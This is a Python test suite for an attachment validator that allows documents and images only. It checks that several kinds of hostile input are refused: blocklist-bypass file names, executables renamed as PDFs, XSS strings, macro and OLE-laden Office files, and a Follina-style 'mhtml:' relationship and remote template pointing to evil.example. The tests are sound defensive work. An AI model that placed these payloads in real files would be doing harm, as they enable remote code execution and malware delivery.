"""Attachments are documents and images only (an allowlist by final extension), and the
content must be what the extension says: magic bytes, Office packages without macros or
embedded programs, UTF-8 text without NUL; a declared content type must agree. Real small
files of every accepted type are built here."""

from __future__ import annotations

import base64
import io
import json
import os
import struct
import zipfile
import zlib

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from replykit.errors import InputError
from suggest import attachments, library, library_io

REPLY = {"id": "forms", "title": "Forms", "body": "See the attached form."}
OOXML = "application/vnd.openxmlformats-officedocument."
ODF = "application/vnd.oasis.opendocument."


def png() -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return (struct.pack(">I", len(data)) + kind + data
                + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF))

    header = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)  # 1x1, 8-bit RGB
    pixels = zlib.compress(b"\x00\xff\x00\x00")
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", pixels)
            + chunk(b"IEND", b""))


def gif() -> bytes:
    return (b"GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff!\xf9\x04\x01\x00"
            b"\x00\x00\x00,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;")


def jpeg() -> bytes:
    return (b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
            b"\xff\xdb\x00C\x00" + bytes([1] * 64) + b"\xff\xd9")


def webp() -> bytes:
    payload = b"WEBPVP8L" + struct.pack("<I", 6) + b"\x2f\x00\x00\x00\x00\x00"
    return b"RIFF" + struct.pack("<I", len(payload)) + payload


def pdf() -> bytes:
    return (b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
            b"2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n")


def ooxml(folder: str, main: str, extra: dict | None = None, types: str = "") -> bytes:
    """A minimal Office Open XML package: content types, relationships, one main part."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as package:
        package.writestr("[Content_Types].xml",
                         '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/'
                         'package/2006/content-types"><Default Extension="xml" '
                         f'ContentType="application/xml"/>{types}</Types>')
        package.writestr("_rels/.rels", '<?xml version="1.0"?><Relationships/>')
        package.writestr(f"{folder}{main}", '<?xml version="1.0"?><document/>')
        for name, data in (extra or {}).items():
            package.writestr(name, data)
    return buffer.getvalue()


def odf(kind: str, extra: dict | None = None) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as package:
        package.writestr("mimetype", ODF + kind, compress_type=zipfile.ZIP_STORED)
        package.writestr("content.xml", '<?xml version="1.0"?><office:document-content/>')
        package.writestr("META-INF/manifest.xml", '<?xml version="1.0"?><manifest/>')
        for name, data in (extra or {}).items():
            package.writestr(name, data)
    return buffer.getvalue()


def with_zip_flags(package: bytes, method: int | None = None, encrypted: bool = False) -> bytes:
    """The package with every entry's compression method (or encryption flag) changed in its
    local header and the central directory, as a hand-made hostile file would have."""
    data = bytearray(package)
    for signature, flags_at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = data.find(signature)
        while at >= 0:
            if method is not None:
                data[at + flags_at + 2:at + flags_at + 4] = struct.pack("<H", method)
            if encrypted:
                data[at + flags_at] |= 1
            at = data.find(signature, at + 4)
    return bytes(data)


def corrupt_part(package: bytes, name: str) -> bytes:
    data = bytearray(package)
    at = data.find(name.encode()) + len(name)  # the local header's name, then the data
    data[at:at + 20] = b"\xff" * 20
    return bytes(data)


# name -> (content, the media type stored)
ACCEPTED = {
    "terms.pdf": (pdf(), "application/pdf"),
    "logo.png": (png(), "image/png"),
    "photo.jpg": (jpeg(), "image/jpeg"),
    "photo.JPEG": (jpeg(), "image/jpeg"),
    "spinner.gif": (gif(), "image/gif"),
    "small.webp": (webp(), "image/webp"),
    "ใบเสร็จ.txt": ("ขอบคุณค่ะ\n".encode(), "text/plain"),
    "rates.csv": (b"plan,price\nbasic,10\n", "text/csv"),
    "steps.md": ("# مراحل\n- یک\n".encode(), "text/markdown"),
    "form.docx": (ooxml("word/", "document.xml", {"word/_rels/document.xml.rels": (
        '<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/'
        'officeDocument/2006/relationships/hyperlink" Target="https://example.com/help" '
        'TargetMode="External"/></Relationships>')}), OOXML + "wordprocessingml.document"),
    "prices.xlsx": (ooxml("xl/", "workbook.xml"), OOXML + "spreadsheetml.sheet"),
    "deck.pptx": (ooxml("ppt/", "presentation.xml"), OOXML + "presentationml.presentation"),
    "letter.odt": (odf("text"), ODF + "text"),
    "sheet.ods": (odf("spreadsheet"), ODF + "spreadsheet"),
}
ALLOWED_EXTENSIONS = {".pdf", ".png", ".jpg", ".jpeg", ".gif", ".webp", ".txt", ".csv", ".md",
                      ".docx", ".xlsx", ".pptx", ".odt", ".ods"}
# names from the review that passed the old blocklist, and a few more of the same kind
BYPASSES = ["setup.exe.", "setup.exe . .", "help.chm", "page.xhtml", "macro.docm", "notes.one",
            "disk.iso", "link.url", "module.psm1", "image.svgz", "invoice.pdf.exe", "a.EXE",
            "tool.xlsm", "show.pptm", "run.vbs", "app.msix", "x.html", "x.svg", "archive.zip",
            "setup.\uff45\uff58\uff45", "report.p\u0501f", "noextension", "x.pdf:evil.exe"]


@pytest.fixture
def reply(home):
    library.add_reply(home.db, REPLY)
    return home


def stored(home) -> list:
    return attachments.list_for(home.db, "forms")


@pytest.mark.parametrize("name", list(ACCEPTED))
def test_every_accepted_type_is_attached_with_its_media_type(reply, name):
    content, media_type = ACCEPTED[name]
    item = attachments.add(reply.db, reply.config.attachments_dir, "forms", name, content)
    assert (item["filename"], item["content_type"]) == (name, media_type)
    assert attachments.read(reply.db, reply.config.attachments_dir, "forms", name) == content


@pytest.mark.parametrize("name", BYPASSES)
def test_every_bypass_of_the_old_blocklist_is_refused(reply, name):
    with pytest.raises(InputError) as refused:
        attachments.add(reply.db, reply.config.attachments_dir, "forms", name, pdf())
    assert refused.value.where.startswith("attachment ")
    assert "not accepted: attachments are documents and images" in refused.value.message
    assert stored(reply) == []


BAD_CONTENT = {
    "renamed.pdf": (b"MZ\x90\x00 this is a program", "is not a PDF file"),
    "image.png": (jpeg(), "is not a PNG image file"),
    "photo.jpg": (b"<svg onload=alert(1)>", "is not a JPEG image file"),
    "animated.gif": (png(), "is not a GIF image file"),
    "small.webp": (b"RIFF\x00\x00\x00\x00AVI LIST", "is not a WebP image file"),
    "nul.txt": (b"text\x00more", "it contains NUL bytes"),
    "latin1.csv": ("caf\xe9".encode("latin-1"), "it is not UTF-8 text"),
    "macro.docx": (ooxml("word/", "document.xml", {"word/vbaProject.bin": b"\xd0\xcf"}),
                   "it contains macros or embedded programs (word/vbaProject.bin)"),
    "renamed-docm.docx": (ooxml("word/", "document.xml", types=(
        '<Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.'
        'document.macroEnabled.main+xml"/>')), "it contains macros or embedded programs"),
    "ole.xlsx": (ooxml("xl/", "workbook.xml", {"xl/embeddings/oleObject1.bin": b"\xd0\xcf"}),
                 "it contains macros or embedded programs (xl/embeddings/oleObject1.bin)"),
    "word-as.pptx": (ooxml("word/", "document.xml"), "is not a PowerPoint presentation file"),
    "zip.docx": (b"PK\x03\x04 not really a zip", "it is not a readable ZIP package"),
    "basic.odt": (odf("text", {"Basic/Standard/Module1.xml": "<module/>"}),
                  "it contains macros (Basic/ or Scripts/)"),
    "sheet-as.odt": (odf("spreadsheet"), "it is not an OpenDocument file of type"),
    "template.docx": (ooxml("word/", "document.xml", {"word/_rels/settings.xml.rels": (
        '<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/'
        'officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/'
        't.dotm" TargetMode="External"/></Relationships>')}),
        "it loads a template or object from elsewhere (word/_rels/settings.xml.rels)"),
    "follina.docx": (ooxml("word/", "document.xml", {"word/_rels/document.xml.rels": (
        "<Relationships><Relationship Id='r9' Target = 'mhtml:http://evil.example/x!y' "
        "TargetMode = 'External' Type='http://schemas.openxmlformats.org/officeDocument/2006/"
        "relationships/oleObject'/></Relationships>")}),
        "it loads a template or object from elsewhere"),
    # found by trying: these raised NotImplementedError, zlib.error and RuntimeError
    "method99.docx": (with_zip_flags(ooxml("word/", "document.xml"), method=99),
                      "its part [Content_Types].xml cannot be read"),
    "corrupt.xlsx": (corrupt_part(ooxml("xl/", "workbook.xml"), "[Content_Types].xml"),
                     "its part [Content_Types].xml cannot be read"),
    "encrypted.odt": (with_zip_flags(odf("text"), encrypted=True),
                      "its part mimetype cannot be read"),
}


@pytest.mark.parametrize("name", list(BAD_CONTENT))
def test_content_must_be_what_the_extension_says(reply, name):
    content, why = BAD_CONTENT[name]
    with pytest.raises(InputError) as refused:
        attachments.add(reply.db, reply.config.attachments_dir, "forms", name, content)
    assert refused.value.where == f"attachment {name}" and why in refused.value.message
    assert stored(reply) == [] and not any(reply.config.attachments_dir.glob("*"))


def test_a_declared_content_type_must_agree_with_the_extension(reply):
    directory = reply.config.attachments_dir
    with pytest.raises(InputError) as refused:
        attachments.add(reply.db, directory, "forms", "terms.pdf", pdf(), "text/html")
    assert str(refused.value) == (
        "attachment terms.pdf: content_type 'text/html' does not match a .pdf file "
        "(application/pdf)")
    for declared in ("application/octet-stream", "image/jpg", "IMAGE/JPEG; q=1"):
        item = attachments.add(reply.db, directory, "forms", "photo.jpg", jpeg(), declared)
        assert item["content_type"] == "image/jpeg"


def import_file(tmp_path, files: list[dict]):
    path = tmp_path / "library.jsonl"
    path.write_text(json.dumps(dict(REPLY, attachments=files)) + "\n", "utf-8")
    return path


def test_an_import_refuses_a_bad_attachment_naming_file_line_and_why(home, tmp_path):
    files = [{"filename": name, "content_base64": base64.b64encode(content).decode()}
             for name, (content, _) in ACCEPTED.items()]
    path = import_file(tmp_path, files)
    library_io.import_replies(home.db, path, home.config.attachments_dir)
    assert {a["filename"]: a["content_type"] for a in attachments.list_for(home.db, "forms")} == {
        name: media_type for name, (_, media_type) in ACCEPTED.items()}
    bad = files + [{"filename": "setup.exe.", "content_type": "application/pdf",
                    "content_base64": base64.b64encode(pdf()).decode()}]
    with pytest.raises(InputError) as refused:
        library_io.import_replies(home.db, import_file(tmp_path, bad), home.config.attachments_dir)
    assert str(refused.value).startswith(
        f"{path} line 1, attachment setup.exe: .exe files are not accepted")
    assert len(attachments.list_for(home.db, "forms")) == len(ACCEPTED)  # all or nothing
    mismatch = [{"filename": "terms.pdf", "content_type": "application/x-msdownload",
                 "content_base64": base64.b64encode(pdf()).decode()}]
    with pytest.raises(InputError, match="does not match a .pdf file"):
        library_io.import_replies(home.db, import_file(tmp_path, mismatch),
                                  home.config.attachments_dir)


decorations = st.sampled_from(["", ".", " ", ". .", "..", "  .", "\u3000"])
extensions = st.sampled_from(sorted(ALLOWED_EXTENSIONS) + [
    ".exe", ".chm", ".xhtml", ".docm", ".one", ".iso", ".url", ".psm1", ".svgz", ".html", ".js",
    ".bat", ".lnk", ".hta", ".scr", ".zip", ".bin", "", ".p\u0501f", ".\uff50\uff44\uff46",
    ".pdf\u200b"])


def case(text: str, flips: list[bool]) -> str:
    return "".join(c.upper() if flip else c for c, flip in zip(text, flips + [False] * 9,
                                                                 strict=False))


@settings(max_examples=150, suppress_health_check=[HealthCheck.function_scoped_fixture],
          deadline=None)
@given(stem=st.text(st.characters(blacklist_categories=("Cs", "Cc"),
                                  blacklist_characters="/\\\u202a\u202b\u202c\u202d\u202e"
                                                       "\u2066\u2067\u2068\u2069"),
                    min_size=1, max_size=12),
       inner=extensions, outer=extensions, trail=decorations, flips=st.lists(st.booleans()))
def test_the_final_extension_after_trailing_dots_and_spaces_decides(reply, stem, inner, outer,
                                                                    trail, flips):
    """Double extensions, case, trailing dots and spaces, full-width and lookalike letters:
    only the last real extension counts (what Windows keeps: trailing dots and spaces go),
    and it must be on the list."""
    name = f"{stem}{inner}{case(outer, flips)}{trail}"
    real = name.strip().rstrip(". ")
    suffix = os.path.splitext(real)[1].lower()
    accepted = bool(real) and suffix in ALLOWED_EXTENSIONS
    content, media_type = next(
        (ACCEPTED[n] for n in ACCEPTED if n.lower().endswith(suffix)), (pdf(), None)
    ) if accepted else (pdf(), None)
    if not accepted:
        with pytest.raises(InputError):
            attachments.add(reply.db, reply.config.attachments_dir, "forms", name, content)
        return
    item = attachments.add(reply.db, reply.config.attachments_dir, "forms", name, content)
    assert (item["filename"], item["content_type"]) == (real, media_type)


def test_replies_attach_refuses_with_one_error_line(reply, tmp_path):
    from click.testing import CliRunner

    from cli.main import cli

    reply.close()
    (tmp_path / "setup.exe.").write_bytes(b"MZ\x90\x00")
    (tmp_path / "form.pdf").write_bytes(b"<html><script>alert(1)</script>")
    (tmp_path / "form.docx").write_bytes(ACCEPTED["form.docx"][0])
    run = lambda *args: CliRunner().invoke(  # noqa: E731
        cli, ["--home", str(reply.config.home), "replies", "attach", "forms", *args])
    refused = run(str(tmp_path / "setup.exe."))
    assert refused.exit_code == 1 and refused.output.endswith(
        "Error: attachment setup.exe: .exe files are not accepted: attachments are documents "
        "and images (.pdf .png .jpg .jpeg .gif .webp .txt .csv .md .docx .xlsx .pptx .odt .ods)\n")
    refused = run(str(tmp_path / "form.pdf"))
    assert refused.exit_code == 1 and refused.output.endswith(
        "Error: attachment form.pdf: is not a PDF file: its content does not start like one\n")
    attached = run(str(tmp_path / "form.docx"))
    assert attached.exit_code == 0 and "Attached form.docx" in attached.output
